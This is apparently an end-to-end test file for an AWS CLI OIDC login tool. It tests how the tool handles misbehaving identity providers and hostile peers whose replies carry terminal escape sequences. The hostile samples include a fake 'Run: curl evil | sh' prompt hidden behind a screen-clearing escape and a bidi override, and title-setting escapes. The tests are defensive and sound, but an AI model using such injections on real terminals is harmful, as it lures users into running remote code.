//! Providers that differ and peers that are hostile (issue "Trust in the
//! field"): the real `oidc-provider`, switched by `E2E_BEHAVIOUR` (see
//! tests/peers/provider.mjs) to answer as other real providers do, and moto
//! with a `hostile` role whose error carries terminal escapes.

use crate::cache::{
    FORCE_MISS, config_with_oidc_extra, creds_json, get_cred_s, get_cred_s_with_env, read_json,
    refresh_entry_path, stored_refresh_token,
};
use crate::support::{Peers, Run, Sandbox, role_arn};

fn behaving(behaviour: &str) -> Peers {
    Peers::start_with(&[("E2E_BEHAVIOUR", behaviour)])
}

fn refresh_grants(peers: &Peers) -> u64 {
    peers.provider_stats()["refresh_grants"]
        .as_u64()
        .unwrap_or_else(|| panic!("no refresh_grants in {}", peers.provider_stats()))
}

/// No ESC, BEL, CR or bidi override reached the terminal.
#[track_caller]
fn assert_no_control_bytes(run: &Run) {
    for (name, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let bad: Vec<char> = text
            .chars()
            .filter(|&c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
            .collect();
        assert!(
            bad.is_empty(),
            "{name} holds control characters {bad:?}{}",
            run.streams()
        );
    }
}

/// A sandbox on `peers` whose `oidc` provider always takes the renewal path.
fn renewing(peers: &Peers) -> Sandbox {
    let sandbox = Sandbox::with_peers(peers);
    sandbox.write_config(&config_with_oidc_extra(peers, FORCE_MISS));
    sandbox
}

// ---------------------------------------------------------------------------
// Providers that differ
// ---------------------------------------------------------------------------

#[test]
fn refresh_without_id_token_logs_in_again_for_oidc_and_still_renews_saml() {
    let peers = behaving("refresh_no_id_token");
    let sandbox = renewing(&peers);
    get_cred_s(&sandbox).assert_success();
    let first = stored_refresh_token(&sandbox, "oidc").expect("login stores a refresh token");

    let again = get_cred_s(&sandbox);
    again.assert_success();
    creds_json(&again);
    assert!(
        again
            .stderr
            .contains("the provider's refresh answer has no ID token; logging in again"),
        "one-line reason{}",
        again.streams()
    );
    assert_eq!(sandbox.browser_runs(), 2, "falls back to the browser");
    assert_eq!(refresh_grants(&peers), 1);
    let stored = stored_refresh_token(&sandbox, "oidc");
    assert!(stored.is_some_and(|t| t != first), "a new token is stored");

    // `refresh` cannot reach a person: exit 3 with the reason.
    sandbox
        .run(&["login", "--profile", "dev", "-p", "oidc"])
        .assert_success();
    let refresh = sandbox.run(&["refresh", "--within", "90"]);
    refresh.assert_code(3);
    assert!(
        refresh
            .stderr
            .contains("has no ID token; a new login is needed"),
        "{}",
        refresh.streams()
    );
    assert!(
        refresh.stderr.contains("aws-cli-oidc login --profile dev"),
        "{}",
        refresh.streams()
    );

    // SAML federation needs no ID token after a refresh: it still renews.
    let saml = |s: &Sandbox| s.run(&["get-cred", "-p", "saml", "-r", &role_arn("developer"), "-j"]);
    saml(&sandbox).assert_success();
    let runs = sandbox.browser_runs();
    let renewed = saml(&sandbox);
    renewed.assert_success();
    creds_json(&renewed);
    assert_eq!(
        sandbox.browser_runs(),
        runs,
        "no browser for the SAML renewal{}",
        renewed.streams()
    );
}

#[test]
fn refresh_answered_by_an_empty_400_drops_the_token_and_logs_in() {
    let peers = behaving("refresh_empty_400");
    let sandbox = renewing(&peers);
    get_cred_s(&sandbox).assert_success();
    let first = stored_refresh_token(&sandbox, "oidc").expect("login stores a refresh token");

    let again = get_cred_s(&sandbox);
    again.assert_success();
    assert!(
        again.stderr.contains("was rejected") && again.stderr.contains("returned 400"),
        "{}",
        again.streams()
    );
    assert_eq!(sandbox.browser_runs(), 2);
    let stored = stored_refresh_token(&sandbox, "oidc");
    assert!(
        stored.is_some_and(|t| t != first),
        "the dead token is replaced by the new login's"
    );

    // Without a person to log in, the dead token is dropped, not kept.
    let cron = get_cred_s_with_env(&sandbox, &[("BROWSER", "")]);
    assert_ne!(cron.code, Some(0), "{}", cron.streams());
    assert_eq!(stored_refresh_token(&sandbox, "oidc"), None);
}

#[test]
fn changed_metadata_url_never_sends_the_token_to_the_old_provider() {
    let old = Peers::start();
    let sandbox = renewing(&old);
    get_cred_s(&sandbox).assert_success();
    assert_eq!(refresh_grants(&old), 0);
    let entry = read_json(&refresh_entry_path(&sandbox, "oidc"));
    assert_eq!(
        entry["metadata_url"].as_str(),
        Some(old.metadata_url().as_str())
    );

    // The config now names another provider (same client_id).
    let new = Peers::shared();
    let config = config_with_oidc_extra(&old, FORCE_MISS).replace(
        &format!("oidc_provider_metadata_url: {}\n  client_id: aws-cli\n  aws_federation_type: oidc\n  default_iam_role_arn", old.metadata_url()),
        &format!("oidc_provider_metadata_url: {}\n  client_id: aws-cli\n  aws_federation_type: oidc\n  default_iam_role_arn", new.metadata_url()),
    );
    assert!(config.contains(&new.metadata_url()), "{config}");
    sandbox.write_config(&config);
    let run = get_cred_s(&sandbox);
    run.assert_success();
    assert!(
        run.stderr.contains("oidc_provider_metadata_url is now")
            && run.stderr.contains("logging in again"),
        "{}",
        run.streams()
    );
    assert_eq!(sandbox.browser_runs(), 2, "a login, not an error");
    assert_eq!(
        refresh_grants(&old),
        0,
        "the old provider saw no refresh grant"
    );
    let entry = read_json(&refresh_entry_path(&sandbox, "oidc"));
    assert_eq!(entry["issuer"].as_str(), Some(new.issuer()));
}

#[test]
fn refresh_entries_from_before_the_binding_are_checked_by_discovery() {
    let peers = Peers::shared();
    let sandbox = renewing(peers);
    get_cred_s(&sandbox).assert_success();
    // An entry as older versions wrote it: no metadata_url, no subject.
    let path = refresh_entry_path(&sandbox, "oidc");
    let mut entry = read_json(&path);
    let obj = entry.as_object_mut().expect("entry is an object");
    obj.remove("metadata_url");
    obj.remove("subject");
    std::fs::write(&path, entry.to_string()).expect("write entry");

    let run = get_cred_s(&sandbox);
    run.assert_success();
    assert_eq!(sandbox.browser_runs(), 1, "still renews{}", run.streams());
    let entry = read_json(&path);
    assert_eq!(
        entry["metadata_url"].as_str(),
        Some(peers.metadata_url().as_str()),
        "the rotated entry records the binding"
    );
}

#[test]
fn id_tokens_from_another_issuer_are_refused() {
    let peers = behaving("foreign_iss");
    let sandbox = Sandbox::with_peers(&peers);
    let run = get_cred_s(&sandbox);
    run.assert_code(1);
    assert!(
        run.stderr
            .contains("\"https://other-issuer.example\" is not the provider's"),
        "{}",
        run.streams()
    );
    assert!(run.stdout.is_empty());
}

#[test]
fn a_callback_without_the_promised_iss_is_refused() {
    let peers = behaving("callback_no_iss");
    let sandbox = Sandbox::with_peers(&peers);
    let run = get_cred_s(&sandbox);
    run.assert_code(1);
    assert!(
        run.stderr.contains("has no iss parameter"),
        "{}",
        run.streams()
    );
}

#[test]
fn a_refresh_for_another_subject_is_not_used() {
    let peers = behaving("refresh_other_sub");
    let sandbox = renewing(&peers);
    get_cred_s(&sandbox).assert_success();
    let entry = read_json(&refresh_entry_path(&sandbox, "oidc"));
    assert_eq!(entry["subject"].as_str(), Some("alice"));

    let run = get_cred_s(&sandbox);
    run.assert_success();
    assert!(
        run.stderr
            .contains("names subject \"mallory\", not the login's \"alice\"; logging in again"),
        "{}",
        run.streams()
    );
    assert_eq!(sandbox.browser_runs(), 2);
}

// ---------------------------------------------------------------------------
// Hostile peers: nothing from the network paints on the terminal
// ---------------------------------------------------------------------------

#[test]
fn escape_sequences_in_the_issuer_are_shown_escaped() {
    let peers = behaving("hostile_issuer");
    let sandbox = Sandbox::with_peers(&peers);
    let run = crate::faults::get_cred(&sandbox);
    run.assert_code(1);
    assert_no_control_bytes(&run);
    assert!(
        run.stderr.contains("\\x1b]0;pwned\\x07"),
        "{}",
        run.streams()
    );
}

#[test]
fn escape_sequences_in_the_device_user_code_are_shown_escaped() {
    let peers = behaving("hostile_user_code");
    let sandbox = Sandbox::with_peers(&peers);
    // browser.sh opens verification_uri_complete, which holds the real code.
    let run = sandbox.run(&["get-cred", "-p", "oidc", "--device", "-j"]);
    run.assert_success();
    assert_no_control_bytes(&run);
    assert!(
        run.stderr
            .contains("\\x1b[2J\\r\\nRun: curl evil | sh\\u{202e}"),
        "{}",
        run.streams()
    );
}

#[test]
fn escape_sequences_in_the_sts_error_are_shown_escaped() {
    let sandbox = Sandbox::new();
    let run = sandbox.run(&["get-cred", "-p", "oidc", "-r", &role_arn("hostile"), "-j"]);
    run.assert_code(1);
    assert_no_control_bytes(&run);
    assert!(
        run.stderr.contains("AccessDenied\\x1b]0;pwned\\x07"),
        "{}",
        run.streams()
    );
}
